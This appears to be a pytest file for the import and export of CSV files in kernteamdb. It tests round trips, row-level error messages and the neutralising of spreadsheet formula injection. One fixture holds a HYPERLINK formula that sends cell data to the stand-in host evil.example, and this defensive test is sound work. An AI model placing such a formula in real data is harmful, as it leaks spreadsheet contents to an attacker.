"""``kernteamdb import`` of CSV files and ``export --csv``: the same pool back,
and every problem with its file, row and column (exit 1, nothing changed)."""

from __future__ import annotations

import csv
import io
import json

from tests.conftest import small_document


def test_export_csv_then_import_csv_gives_the_same_pool(loaded, tmp_path):
    result = loaded("export", "--csv", str(tmp_path / "csv"))
    assert result.exit_code == 0, result.output
    files = sorted(str(p) for p in (tmp_path / "csv").iterdir())
    assert [p.rsplit("/", 1)[1] for p in files] == [
        "cases.csv", "expertise.csv", "organisations.csv", "professionals.csv", "teams.csv"]
    other = f"sqlite:///{tmp_path / 'other.db'}"
    imported = loaded("import", *files, store=other)
    assert imported.exit_code == 0, imported.output
    assert "professionals        5 (5 new, 0 changed, 0 unchanged)" in imported.stdout
    assert loaded("export", store=other).stdout == loaded("export").stdout


def test_bad_csv_rows_are_listed_and_nothing_changes(loaded, tmp_path):
    people = tmp_path / "people.txt"
    people.write_text("id;name;expertise\np-new;Nieuw;dementia:2\n", encoding="utf-8")
    named = tmp_path / "professionals.csv"
    named.write_bytes(people.read_bytes())
    before = loaded("export").stdout
    result = loaded("import", "--csv", str(named))
    assert result.exit_code == 1
    assert "professionals.csv row 2, column expertise: unknown expertise area 'dementia'" \
        in result.stderr
    assert loaded("export").stdout == before
    # without --csv, a name that does not end in .csv is read as a JSON document
    assert loaded("import", str(people)).exit_code == 1


def test_several_files_that_are_not_csv_are_refused(loaded, tmp_path):
    a, b = tmp_path / "a.json", tmp_path / "b.json"
    a.write_text("{}", encoding="utf-8")
    b.write_text("{}", encoding="utf-8")
    result = loaded("import", str(a), str(b))
    assert result.exit_code == 1
    assert "give one exchange document, or CSV files (--csv)" in result.stderr


def test_export_csv_needs_a_folder(loaded):
    result = loaded("export", "--csv")
    assert result.exit_code == 2 and "name the folder" in result.stderr


FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Klik")'


def test_a_formula_in_a_bio_is_neutralised_in_export_csv_and_comes_back_unchanged(run, tmp_path):
    document = small_document()
    people = document["professionals"]
    people[0]["bio"] = FORMULA
    people[1]["bio"] = "  @SUM(A1:A9)"          # after leading whitespace too
    people[2]["bio"] = "'=1+1"                   # a quote of its own before a formula
    people[3]["bio"] = "'gewoon citaat"          # a quote before plain text stays as it is
    source = tmp_path / "pool.json"
    source.write_text(json.dumps(document), encoding="utf-8")
    assert run("import", str(source)).exit_code == 0
    result = run("export", "--csv", str(tmp_path / "csv"))
    assert result.exit_code == 0, result.output
    written = (tmp_path / "csv" / "professionals.csv").read_text(encoding="utf-8-sig")
    bios = {row["id"]: row["bio"] for row in csv.DictReader(io.StringIO(written), delimiter=";")}
    assert bios[people[0]["id"]] == "'" + FORMULA
    assert bios[people[1]["id"]] == "'  @SUM(A1:A9)"
    assert bios[people[2]["id"]] == "''=1+1"
    assert bios[people[3]["id"]] == "'gewoon citaat"
    assert all(not bio.lstrip().startswith(("=", "+", "-", "@")) for bio in bios.values())
    other = f"sqlite:///{tmp_path / 'other.db'}"
    imported = run("import", *sorted(str(p) for p in (tmp_path / "csv").iterdir()), store=other)
    assert imported.exit_code == 0, imported.output
    assert run("export", store=other).stdout == run("export").stdout
